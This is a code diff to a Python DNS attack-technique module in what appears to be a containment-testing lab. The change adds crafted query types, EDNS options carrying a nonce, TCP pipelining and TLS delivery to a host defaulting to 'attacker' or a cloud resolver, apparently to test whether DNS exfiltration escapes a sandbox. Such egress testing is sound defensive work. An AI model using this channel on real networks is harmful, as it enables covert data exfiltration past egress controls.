@@ -8,13 +8,29 @@ import struct
 
 from containment.lab.world.attacks.task import Attempt, Technique, closing, trusting
 
-_TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "ANY": 255}
+_TYPES = {
+    "A": 1,
+    "NS": 2,
+    "CNAME": 5,
+    "NULL": 10,
+    "PTR": 12,
+    "MX": 15,
+    "TXT": 16,
+    "AAAA": 28,
+    "SRV": 33,
+    "SVCB": 64,
+    "HTTPS": 65,
+    "ANY": 255,
+}
+_EDNS = {"client-subnet": 8, "padding": 12, "of-its-own": 65001}
 
 
-def query(name: str, qtype: str = "A") -> bytes:
-    """Return a DNS query."""
+def query(name: str, qtype: str = "A", qclass: int = 1, option: tuple[int, bytes] | None = None) -> bytes:
+    """Return a DNS query; `option` is an EDNS option's number and bytes."""
     labels = b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split("."))
-    return b"\x5a\x3c\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\0" + struct.pack("!HH", _TYPES[qtype], 1)
+    more = b"" if option is None else struct.pack("!BHHIHHH", 0, 41, 1232, 0, 4 + len(option[1]), option[0], len(option[1])) + option[1]
+    head = b"\x5a\x3c\x01\x00" + struct.pack("!HHHH", 1, 0, 0, 1 if more else 0)
+    return head + labels + b"\0" + struct.pack("!HH", _TYPES[qtype], qclass) + more
 
 
 def dns(attempt: Attempt) -> None:
@@ -23,7 +39,8 @@ def dns(attempt: Attempt) -> None:
     at = attempt.option("at", "attacker")
     attempt.options["to"] = {"resolver": attempt.resolver, "amazon": "169.254.169.253"}.get(at, at)
     attempt.marks.append(name.lower())
-    data, port = query(name, attempt.option("type", "A")), attempt.number("port", 53)
+    option = (_EDNS[attempt.option("edns")], attempt.nonce.encode()) if "edns" in attempt.options else None
+    data, port = query(name, attempt.option("type", "A"), attempt.number("class", 1), option), attempt.number("port", 53)
     if attempt.option("via", "udp") == "udp":
         where = attempt.target()
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
@@ -36,6 +53,9 @@ def dns(attempt: Attempt) -> None:
         return
     with closing(attempt.connect(port)) as handle:
         whole = struct.pack("!H", len(data)) + data
+        if "after" in attempt.options:
+            before = query(attempt.option("after"))
+            whole = struct.pack("!H", len(before)) + before + whole
         if attempt.option("via") == "tls":
             attempt.marks.append(attempt.option("sni").lower())
             with trusting().wrap_socket(handle, server_hostname=attempt.option("sni") or None) as inside:
